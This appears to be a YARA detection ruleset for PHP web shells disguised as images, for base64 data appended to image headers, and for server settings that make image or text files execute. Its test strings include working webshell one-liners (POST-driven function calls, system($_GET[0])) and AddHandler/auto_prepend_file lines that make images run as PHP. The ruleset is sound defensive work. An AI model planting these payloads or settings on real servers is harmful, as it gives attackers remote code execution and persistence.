// Pictures that are more than pictures, and settings that run them.

private rule is_picture {
  strings:
    $gif = "GIF8"
    $png = "\x89PNG\r\n\x1a\n"
    $jpeg = "\xff\xd8\xff"
  condition:
    $gif at 0 or $png at 0 or $jpeg at 0
}

rule picture_runs_request {
  meta:
    description = "a picture with code that acts on a request, be it in short tags"
    needs = "$_get|$_post|$_request|$_cookie|$_files"
    match = "GIF89a;<? $f = $_POST['f']; $f($_POST['a']); ?>"
    match = "GIF89a/*<?php */ system($_GET[0]);"
    pass = "GIF89a \x01\x02 made with a camera, $_GET is a variable"
    pass = "<?php readfile($_GET['picture']);"
  strings:
    $code = /<\?(php|=|\s)[^\x00]{0,400}\$_(GET|POST|REQUEST|COOKIE|FILES)\b/ nocase
  condition:
    is_picture and $code
}

// No literal tells it; that text follows where a picture has none is looked at where kinds of content are.
rule picture_of_kept_text {
  meta:
    description = "begins as a picture and goes on as encoded text, as stolen data is kept"
    match = "GIF89a\nQ2FyZDogeHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4"
    pass = "GIF89a\x01\x00\x01\x00\x80\x00\x00AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
  strings:
    $begin = /(GIF8[79]a|\x89PNG\r\n\x1a\n|\xff\xd8\xff(\xe0\x00\x10JFIF\x00[\x00-\xff]{9}|[\xdb\xe0\xe1])?)[\r\n]{0,4}[A-Za-z0-9+\/=\r\n]{200}/
  condition:
    $begin at 0
}

rule settings_run_pictures {
  meta:
    description = "settings of PHP or of the web server that run a picture, a style sheet or a text"
    needs = "auto_prepend_file|auto_append_file|addtype|addhandler"
    match = "auto_prepend_file = /var/www/pub/media/a.jpg\n"
    match = "php_value auto_append_file \"../media/b.gif\"\n"
    match = "AddHandler application/x-httpd-php .jpg .php\n"
    pass = "auto_prepend_file = /usr/share/app/prepend.php\nAddHandler application/x-httpd-php .php .phtml\n"
  strings:
    $file = /\bauto_(prepend|append)_file["']?\s*[=, ]\s*["']?[^\s"';]{1,160}\.(jpe?g|png|gif|ico|webp|txt|css|log)\b/ nocase
    $type = /\b(AddType|AddHandler)\s+["']?(application\/x-httpd-(php|ea-php)\d{0,2}|php\d?-script|php\d?-fcgi)["']?[^\n]{0,60}\.(jpe?g|png|gif|ico|webp|txt|css|svg)\b/ nocase
  condition:
    any of them
}
